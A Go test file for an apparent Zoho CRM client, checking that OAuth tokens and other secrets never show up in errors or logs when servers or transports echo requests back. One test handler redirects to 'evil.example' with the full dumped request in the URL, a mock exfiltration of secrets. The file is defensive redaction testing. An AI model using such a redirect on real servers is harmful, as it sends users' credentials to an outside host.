package redaction

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"strings"
	"testing"
	"time"

	"zohocrm/crm"
	"zohocrm/dc"
	"zohocrm/oauth"
	"zohocrm/store/memory"
)

// echoes are servers that answer with what they were sent: a proxy's error page, a
// gateway that puts the request into its answer, a server gone wrong.
func echoes() map[string]http.HandlerFunc {
	dump := func(r *http.Request) string {
		text, err := httputil.DumpRequest(r, true)
		if err != nil {
			return err.Error()
		}
		return string(text)
	}
	answer := func(status int, kind string, body func(*http.Request) string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			text := body(r)
			w.Header().Set("Content-Type", kind)
			w.WriteHeader(status)
			_, _ = io.WriteString(w, text)
		}
	}
	quoted := func(format string) func(*http.Request) string {
		return func(r *http.Request) string { return fmt.Sprintf(format, fmt.Sprintf("%q", dump(r))) }
	}
	all := map[string]http.HandlerFunc{}
	for _, status := range []int{200, 401, 429, 500} {
		all[fmt.Sprint("page with ", status)] = answer(status, "text/html", func(r *http.Request) string { return "<html>" + dump(r) })
		all[fmt.Sprint("error with ", status)] = answer(status, "application/json", quoted(`{"error":%[1]s,"error_description":%[1]s,"status":%[1]s}`))
		all[fmt.Sprint("CRM error with ", status)] = answer(status, "application/json", quoted(`{"code":%[1]s,"message":%[1]s,"status":"error","details":{"expected":%[1]s,"api_name":%[1]s}}`))
		all[fmt.Sprint("record error with ", status)] = answer(status, "application/json", quoted(`{"data":[{"code":%[1]s,"message":%[1]s,"status":"error","details":{"api_name":%[1]s}}]}`))
		all[fmt.Sprint("cut token with ", status)] = answer(status, "application/json", quoted(`{"access_token":%[1]s,"expires_in":"soon","api_domain":%[1]s,"x":`))
	}
	all["redirect"] = func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "https://evil.example/?sent="+strings.Map(line, dump(r)))
		w.WriteHeader(http.StatusTemporaryRedirect)
	}
	all["status line"] = func(w http.ResponseWriter, r *http.Request) {
		text := strings.Map(line, dump(r))
		conn, _, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		_, _ = fmt.Fprintf(conn, "HTTP/1.1 %s\r\n%s: x\r\n\r\n", text, text)
	}
	all["connection broken"] = func(w http.ResponseWriter, _ *http.Request) { panic(http.ErrAbortHandler) }
	return all
}

// line keeps a text on one line of a header.
func line(r rune) rune {
	if r < ' ' {
		return ' '
	}
	return r
}

// failing is a transport of the caller's that fails with what it was to send.
type failing struct {
	with func(*http.Request, string) error
}

func (f failing) RoundTrip(r *http.Request) (*http.Response, error) {
	text, err := httputil.DumpRequestOut(r, true)
	if err != nil {
		return nil, err
	}
	return nil, f.with(r, string(text))
}

// TestRequestsAreMute: whatever servers and transports say of a request that
// carried a secret, neither an error nor a log repeats it.
//
// Defects: D20.
func TestRequestsAreMute(t *testing.T) {
	for name, handler := range echoes() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := httptest.NewUnstartedServer(handler)
			server.Config.ErrorLog = slog.NewLogLogger(slog.DiscardHandler, slog.LevelError) // of what breaks on purpose
			server.Start()
			defer server.Close()
			ask(t, server.URL, server.Client())
		})
	}
	for name, with := range map[string]func(*http.Request, string) error{
		"the URL in an error":     func(r *http.Request, _ string) error { return fmt.Errorf("no way to %s", r.URL) },
		"the request in an error": func(_ *http.Request, text string) error { return errors.New("refused to send " + text) },
		"wrapped":                 func(_ *http.Request, text string) error { return fmt.Errorf("proxy: %w", errors.New(text)) },
	} {
		t.Run(name, func(t *testing.T) { ask(t, "http://127.0.0.1:9", &http.Client{Transport: failing{with}}) })
	}
}

// ask sends every kind of request there, and looks at all that is said of it.
func ask(t *testing.T, base string, client *http.Client) {
	t.Helper()
	f := newFinder(nil)
	home, err := dc.Custom(base, "")
	if err != nil {
		t.Fatal(err)
	}
	directory := dc.Zoho().With(home)
	var log bytes.Buffer
	logger := slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug}))
	token := aToken()
	token.AccountsURL, token.APIDomain = base, base
	fails := 0
	heard := func(what string, err error) {
		t.Helper()
		if err != nil {
			fails++
			muteError(t, f, what, err)
		}
	}

	accounts := oauth.NewAccounts(oauth.AccountsConfig{HTTPClient: client, Directory: directory, Logger: logger, Timeout: 5 * time.Second})
	_, err = accounts.Exchange(t.Context(), token, secret("verifier"))
	heard("exchange", err)
	_, err = accounts.Refresh(t.Context(), token)
	heard("refresh", err)
	heard("revocation", accounts.Revoke(t.Context(), token))

	store := memory.New(memory.Config{})
	expired := token
	expired.ID, expired.Expiry = "", time.Now().Add(-time.Hour)
	if _, err := store.Save(t.Context(), expired); err != nil {
		t.Fatal(err)
	}
	keeper, err := oauth.NewKeeper(oauth.KeeperConfig{Store: store, Accounts: accounts, DataCenter: home, Logger: logger})
	if err != nil {
		t.Fatal(err)
	}
	defer keeper.Close()
	_, err = keeper.Token(t.Context(), oauth.Token{UserName: "alice"})
	heard("Token", err)
	login := token
	login.ID, login.UserName, login.RefreshToken, login.AccessToken = "", "", oauth.Secret{}, oauth.Secret{}
	login.GrantToken = oauth.NewSecret(plant("grant") + "2")
	_, err = keeper.Connect(t.Context(), oauth.Login{Token: login, Verifier: secret("verifier")})
	heard("Connect", err)
	heard("Revoke", keeper.Revoke(t.Context(), oauth.Token{UserName: "alice"}))
	muteAtWork(t, f, "the Keeper", keeper)
	mute(t, f, "the Accounts", accounts)

	api, err := crm.New(crm.Config{Source: oauth.StaticSource(token), HTTPClient: client, Directory: directory, Logger: logger})
	if err != nil {
		t.Fatal(err)
	}
	mute(t, f, "the crm.Client", api)
	for _, method := range []string{http.MethodGet, http.MethodPost} {
		_, err = api.Do(t.Context(), crm.Request{Method: method, Path: "/crm/v8/Leads", Body: []byte(`{"data":[{}]}`)}, nil)
		heard(method, err)
	}
	_, err = api.Users.Current(t.Context())
	heard("Current", err)

	stay := func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	through := &http.Client{CheckRedirect: stay, Transport: &oauth.Transport{Base: client.Transport, Source: oauth.StaticSource(token), Directory: directory}}
	mute(t, f, "the Transport", &oauth.Transport{Source: oauth.StaticSource(token), Directory: directory}) // fmt would race with a Base that is in use
	resp, err := through.Get(base + "/crm/v8/org")
	if err == nil {
		resp.Body.Close()
	} else if _, own := client.Transport.(failing); !own { // whose words come straight back to the caller
		heard("Transport", err)
	}
	if found := f.in(log.String()); len(found) > 0 {
		t.Errorf("the log shows %s:\n%s", strings.Join(found, ", "), log.String())
	}
	if fails == 0 {
		t.Error("nothing failed")
	}
}
